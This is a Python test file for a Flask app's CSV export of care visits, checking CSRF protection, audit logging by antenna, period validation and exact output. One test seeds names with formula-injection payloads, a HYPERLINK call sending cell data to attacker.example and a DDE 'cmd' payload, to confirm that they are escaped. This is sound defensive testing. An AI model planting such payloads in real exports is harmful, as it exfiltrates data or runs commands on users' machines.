"""The CSV export of visits: posted with the CSRF token, audited under the
user's own antenna, and no cell can become a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session

from extranet.formatting import date_time
from kernel.settings import money
from ledger.facts import month_billing
from ledger.models import Antenna, AuditEntry, Beneficiary, Visit, Worker
from ledger.money import counts, recorded_minutes
from ledger.motives import Motive
from ledger.service import enter_manual_visit
from ledger.spreadsheet import SafeWriter
from ledger.timeutil import Month
from tests.extranet.conftest import Scenario, csrf_token, login

PERIOD = {"first": "2026-11-01", "last": "2026-11-30"}


def _exports(session: Session) -> list[AuditEntry]:
    session.expire_all()
    return list(
        session.scalars(select(AuditEntry).where(AuditEntry.action == "visits.exported")).all()
    )


def _post(client: FlaskClient, **data: str) -> tuple[int, str]:
    token = csrf_token(client, "/interventions/aujourdhui")
    answer = client.post("/interventions/export.csv", data={"csrf_token": token, **data})
    return answer.status_code, answer.get_data(as_text=True)


def test_a_link_from_another_site_writes_nothing(
    client: FlaskClient, scenario: Scenario, session: Session
) -> None:
    assert login(client, "resp-a") == 302
    link = "/interventions/export.csv?du=2026-11-01&au=2026-11-30"
    assert client.get(link).status_code == 405
    forged = client.post("/interventions/export.csv", data=PERIOD)  # no token
    assert forged.status_code == 400
    assert _exports(session) == []


@pytest.mark.parametrize(
    ("login_", "antenna_of_query", "expected_tag"),
    [("resp-a", "b", "a"), ("resp-a", None, "a"), ("referent", "a", None), ("admin", "b", None)],
)
def test_the_audit_entry_carries_the_users_own_antenna(
    client: FlaskClient,
    scenario: Scenario,
    session: Session,
    login_: str,
    antenna_of_query: str | None,
    expected_tag: str | None,
) -> None:
    sides = {"a": scenario.a.antenna.id, "b": scenario.b.antenna.id}
    assert login(client, login_) == 302
    data = dict(PERIOD)
    if antenna_of_query:
        data["antenna"] = str(sides[antenna_of_query])
    status, _ = _post(client, **data)
    assert status == 200
    [entry] = _exports(session)
    assert entry.actor == login_
    assert entry.antenna_id == (sides[expected_tag] if expected_tag else None)
    assert entry.details["antenna_filter"] == (
        sides[antenna_of_query] if antenna_of_query else None
    )


def test_a_managers_export_stays_out_of_the_other_antennas_journal(
    client: FlaskClient, scenario: Scenario
) -> None:
    assert login(client, "resp-a") == 302
    assert _post(client, antenna=str(scenario.b.antenna.id), **PERIOD)[0] == 200
    client.post("/deconnexion", data={"csrf_token": csrf_token(client, "/alertes")})
    assert login(client, "resp-b") == 302
    assert "visits.exported" not in client.get("/journal").get_data(as_text=True)


@pytest.mark.parametrize(
    ("status", "data"),
    [
        (400, {"first": "2026-11-30", "last": "2026-11-01"}),
        (400, {"first": "2026-01-01", "last": "2026-11-30"}),
        (400, {"first": "0001-01-01", "last": "0001-01-02"}),
        (400, {"first": "2026-11-01"}),
        (400, {**PERIOD, "antenna": "9" * 25}),
    ],
)
def test_a_bad_period_is_refused(
    client: FlaskClient, scenario: Scenario, session: Session, status: int, data: dict[str, str]
) -> None:
    assert login(client, "referent") == 302
    assert _post(client, **data)[0] == status
    assert _exports(session) == []


def test_formula_looking_names_and_ids_come_out_as_text(
    client: FlaskClient, scenario: Scenario, session: Session
) -> None:
    beneficiary = session.get_one(Beneficiary, scenario.a.beneficiary.id)
    beneficiary.last_name = '=HYPERLINK("http://attacker.example/?x="&A1)'
    beneficiary.first_name = "@SUM(1)"
    worker = session.get_one(Worker, scenario.a.worker.id)
    worker.last_name = "+cmd|' /C calc'!A0"
    worker.first_name = "-2+3"
    session.commit()
    assert login(client, "resp-a") == 302
    status, text = _post(client, **PERIOD)
    assert status == 200
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0][0] == "intervention"
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'+cmd") for cell in cells)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _plain_export(session: Session, first: date, last: date, antenna_ids: list[int]) -> str:
    """The CSV as the view wrote it before it read plain columns and joined only its own
    visits' shares: its four objects per row, and every visit of the months allocated."""
    session.expire_all()
    rows = session.execute(
        select(Visit, Worker, Beneficiary, Antenna)
        .join(Worker, Worker.id == Visit.worker_id)
        .join(Beneficiary, Beneficiary.id == Visit.beneficiary_id)
        .join(Antenna, Antenna.id == Visit.antenna_id)
        .where(Visit.service_date >= first, Visit.service_date <= last)
        .where(Visit.antenna_id.in_(antenna_ids))
        .order_by(Visit.service_date, Visit.started_at, Visit.id)
    ).all()
    kept = {}
    for month in sorted({Month.of(first), Month.of(last)}):
        for vb in month_billing(session, month, money().rules)[1].visits:
            shares = " | ".join(
                f"{s.plan.funder_code if s.plan else 'hors plan'}:{s.minutes}" for s in vb.shares
            )
            kept[vb.visit.visit_id] = (vb.kept.minutes, shares)
    out = io.StringIO()
    out.write("\ufeff")
    writer = SafeWriter(out)
    writer.writerow(
        ["intervention", "date", "antenne", "intervenant", "bénéficiaire", "arrivée", "départ"]
        + ["durée (min)", "minutes retenues", "répartition", "statut"]
    )
    for visit, worker, ben, antenna in rows:
        minutes: int | str = ""
        if counts(visit.status.value, visit.started_at, visit.ended_at):
            minutes = recorded_minutes(visit.started_at, visit.ended_at)
        billed = kept.get(visit.id)
        times = ("" if t is None else date_time(t) for t in (visit.started_at, visit.ended_at))
        writer.writerow(
            [
                visit.id,
                visit.service_date.isoformat(),
                antenna.code,
                f"{worker.last_name} {worker.first_name} ({worker.external_id})",
                f"{ben.last_name} {ben.first_name} ({ben.external_id})",
                *times,
                minutes,
                "" if billed is None else billed[0],
                "" if billed is None else billed[1],
                visit.status.label,
            ]
        )
    return out.getvalue()


@pytest.mark.parametrize(
    ("login_", "first", "last"),
    [
        ("referent", "2026-11-20", "2026-11-20"),
        ("referent", "2026-11-01", "2026-12-02"),
        ("resp-a", "2026-11-01", "2026-11-30"),
        ("resp-b", "2026-11-03", "2026-11-20"),
    ],
)
def test_the_export_is_the_plain_reading_of_its_visits(
    client: FlaskClient, scenario: Scenario, session: Session, login_: str, first: str, last: str
) -> None:
    """The export reads plain columns and writes the shares of its own visits only, out of
    the months it allocates: its file is the one read object by object, every visit of
    the months allocated, in the same order (a day of a month with other days, two
    months, a manager's scope, visits overflowing their plan and a manual one)."""
    # Two antennas' visits on three days of November (three hours a day overflow a's
    # plan), and one of December.
    made = [
        (side, day, hours)
        for side, hours in ((scenario.a, 3), (scenario.b, 2))
        for day in (3, 20, 28)
    ]
    for side, day, hours in [*made, (scenario.a, 31, 0)]:
        start = datetime(2026, 11, 1, 7, 13, 41, tzinfo=UTC) + timedelta(days=day - 1)
        enter_manual_visit(
            session,
            worker=side.worker,
            beneficiary=side.beneficiary,
            started_at=start,
            ended_at=start + timedelta(hours=hours, minutes=47, seconds=31),
            motive=Motive.TIME_ERROR,
            comment="",
            author="referent",
        )
        session.commit()
    sides = {"referent": [scenario.a, scenario.b], "resp-a": [scenario.a], "resp-b": [scenario.b]}
    antenna_ids = [side.antenna.id for side in sides[login_]]
    assert login(client, login_) == 302
    status, text = _post(client, first=first, last=last)
    assert status == 200
    expected = _plain_export(
        session, date.fromisoformat(first), date.fromisoformat(last), antenna_ids
    )
    assert text == expected
    assert text.count("\r\n") > 2
    assert any(line.split(";")[9] not in ("", "répartition") for line in text.splitlines())
